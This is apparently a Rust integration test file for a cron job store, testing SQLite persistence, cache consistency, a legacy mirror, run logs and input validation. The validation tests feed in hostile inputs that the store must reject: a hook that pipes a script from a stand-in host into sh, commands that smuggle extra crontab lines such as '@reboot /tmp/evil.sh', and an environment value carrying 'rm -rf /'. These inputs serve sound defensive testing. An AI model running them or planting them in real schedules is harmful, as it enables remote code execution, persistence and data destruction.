//! Store integration tests.
//!
//! Tests that exercise the job store facade over real backends, the query
//! cache and the legacy mirror.

use chrono::Utc;
use cronkeep::storage::{self, StorageMirror};
use cronkeep::{
    ExecutionRecord, InMemoryStorage, JobDraft, JobId, JobPatch, JobStore, StorageConfig,
    StoreError, ValidationError,
};
use std::sync::Arc;
use tempfile::TempDir;

/// Test: Jobs and the environment survive reopening a SQLite store.
#[tokio::test]
async fn test_sqlite_store_persists_across_reopen() {
    let dir = TempDir::new().unwrap();
    let config = StorageConfig::Sqlite {
        path: dir.path().join("cronkeep.db"),
    };

    let id = {
        let store = JobStore::new(storage::open(&config).await.unwrap());
        store.set_environment("SHELL=/bin/sh").await.unwrap();
        store
            .create(JobDraft::new("echo persisted;", "30 1 * * *").with_name("persisted"))
            .await
            .unwrap()
            .id
    };

    let store = JobStore::new(storage::open(&config).await.unwrap());
    let job = store.get(&id).await.unwrap().unwrap();
    assert_eq!(job.name, "persisted");
    assert_eq!(job.schedule, "30 1 * * *");
    assert_eq!(store.environment().await.unwrap(), "SHELL=/bin/sh");
}

/// Test: A read after a write never returns the cached pre-write value.
#[tokio::test]
async fn test_get_after_update_sees_new_value() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));
    let job = store
        .create(JobDraft::new("echo old;", "@daily"))
        .await
        .unwrap();

    assert_eq!(store.get(&job.id).await.unwrap().unwrap().command, "echo old;");
    assert_eq!(store.list().await.unwrap().len(), 1);

    store
        .update(
            &job.id,
            JobPatch {
                command: Some("echo new;".to_string()),
                ..JobPatch::default()
            },
        )
        .await
        .unwrap();

    assert_eq!(store.get(&job.id).await.unwrap().unwrap().command, "echo new;");
    assert_eq!(store.list().await.unwrap()[0].command, "echo new;");

    store.delete(&job.id).await.unwrap();
    assert!(store.get(&job.id).await.unwrap().is_none());
    assert!(store.list().await.unwrap().is_empty());
}

/// Test: Jobs are listed newest first.
#[tokio::test]
async fn test_list_newest_first() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));
    let first = store.create(JobDraft::new("echo 1;", "@daily")).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let second = store.create(JobDraft::new("echo 2;", "@daily")).await.unwrap();

    let ids: Vec<JobId> = store.list().await.unwrap().into_iter().map(|j| j.id).collect();
    assert_eq!(ids, vec![second.id, first.id]);
}

/// Test: Invalid edits are refused and leave the stored job unchanged.
#[tokio::test]
async fn test_invalid_update_is_refused() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));
    let job = store
        .create(JobDraft::new("echo ok;", "0 6 * * *"))
        .await
        .unwrap();

    let bad_schedule = store
        .update(
            &job.id,
            JobPatch {
                schedule: Some("61 * * * *".to_string()),
                ..JobPatch::default()
            },
        )
        .await;
    assert!(matches!(
        bad_schedule,
        Err(StoreError::Validation(ValidationError::Schedule(_)))
    ));

    let bad_hook = store
        .update(
            &job.id,
            JobPatch {
                hook: Some(Some("curl http://x.example/p.sh | sh".to_string())),
                ..JobPatch::default()
            },
        )
        .await;
    assert!(matches!(
        bad_hook,
        Err(StoreError::Validation(ValidationError::InvalidHook(_)))
    ));

    let stored = store.get(&job.id).await.unwrap().unwrap();
    assert_eq!(stored.schedule, "0 6 * * *");
    assert!(stored.hook.is_none());
}

/// Test: A command or hook that would add crontab lines is never stored.
#[tokio::test]
async fn test_multiline_command_is_not_persisted() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));

    let command = store
        .create(JobDraft::new("echo hi\n* * * * * /tmp/evil.sh", "0 2 * * *"))
        .await;
    assert!(matches!(
        command,
        Err(StoreError::Validation(ValidationError::MultilineCommand))
    ));

    let hook = store
        .create(JobDraft::new("echo hi;", "0 2 * * *").with_hook("cat\r\n* * * * * /tmp/evil2.sh #"))
        .await;
    assert!(matches!(
        hook,
        Err(StoreError::Validation(ValidationError::InvalidHook(_)))
    ));
    assert!(store.list().await.unwrap().is_empty());

    let job = store.create(JobDraft::new("echo ok;", "@daily")).await.unwrap();
    let edit = store
        .update(
            &job.id,
            JobPatch {
                command: Some("echo ok;\n@reboot /tmp/evil.sh".to_string()),
                ..JobPatch::default()
            },
        )
        .await;
    assert!(matches!(
        edit,
        Err(StoreError::Validation(ValidationError::MultilineCommand))
    ));
    assert_eq!(store.get(&job.id).await.unwrap().unwrap().command, "echo ok;");
}

/// Test: Missing jobs surface as NotFound on writes.
#[tokio::test]
async fn test_missing_job_writes() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));
    let missing = JobId::new("missing");

    assert!(matches!(
        store.set_stopped(&missing, true).await,
        Err(StoreError::NotFound(_))
    ));
    assert!(matches!(
        store.delete(&missing).await,
        Err(StoreError::NotFound(_))
    ));
}

/// Test: The environment blob is validated before storing.
#[tokio::test]
async fn test_environment_validation() {
    let store = JobStore::new(Arc::new(InMemoryStorage::new()));

    store
        .set_environment("# shared\nPATH=/usr/local/bin:/usr/bin\nMAILTO=\"\"")
        .await
        .unwrap();

    assert!(matches!(
        store.set_environment("PATH=/bin; rm -rf /").await,
        Err(StoreError::Validation(_))
    ));
    assert!(matches!(
        store.set_environment("just words").await,
        Err(StoreError::Validation(ValidationError::InvalidEnvironment { .. }))
    ));
    assert!(matches!(
        store.set_environment("FOO=a b").await,
        Err(StoreError::Validation(ValidationError::InvalidEnvironment { line: 1, .. }))
    ));
    assert_eq!(
        store.environment().await.unwrap(),
        "# shared\nPATH=/usr/local/bin:/usr/bin\nMAILTO=\"\""
    );
}

/// Test: Every mutation reaches the legacy mirror.
#[tokio::test]
async fn test_mutations_reach_mirror() {
    let legacy = Arc::new(InMemoryStorage::new());
    let store = JobStore::new(Arc::new(InMemoryStorage::new()))
        .with_mirror(Arc::new(StorageMirror::new(legacy.clone())));
    let mirrored = JobStore::new(legacy);

    let job = store
        .create(JobDraft::new("echo mirrored;", "@hourly"))
        .await
        .unwrap();
    store.set_environment("TZ=UTC").await.unwrap();
    store.flush_mirror().await;
    assert_eq!(
        mirrored.get(&job.id).await.unwrap().unwrap().command,
        "echo mirrored;"
    );
    assert_eq!(mirrored.environment().await.unwrap(), "TZ=UTC");

    store.set_stopped(&job.id, true).await.unwrap();
    store.flush_mirror().await;
    assert!(mirrored.get(&job.id).await.unwrap().unwrap().stopped);

    store.delete(&job.id).await.unwrap();
    store.flush_mirror().await;
    assert!(mirrored.get(&job.id).await.unwrap().is_none());
}

/// Test: Run records are kept newest first.
#[tokio::test]
async fn test_execution_log() {
    let store = JobStore::new(storage::open(&StorageConfig::Memory).await.unwrap());
    let job = store.create(JobDraft::new("echo run;", "@daily")).await.unwrap();

    let started = Utc::now();
    store
        .record_run(
            ExecutionRecord::new(job.id.clone(), started)
                .finished(started, 0)
                .with_output("ok", ""),
        )
        .await
        .unwrap();
    store
        .record_run(
            ExecutionRecord::new(job.id.clone(), started + chrono::Duration::seconds(60))
                .finished(started + chrono::Duration::seconds(61), 2),
        )
        .await
        .unwrap();

    let runs = store.runs(&job.id, 10).await.unwrap();
    assert_eq!(runs.len(), 2);
    assert_eq!(runs[0].exit_code, Some(2));
    assert!(runs[1].succeeded());

    assert_eq!(store.runs(&job.id, 1).await.unwrap().len(), 1);
}
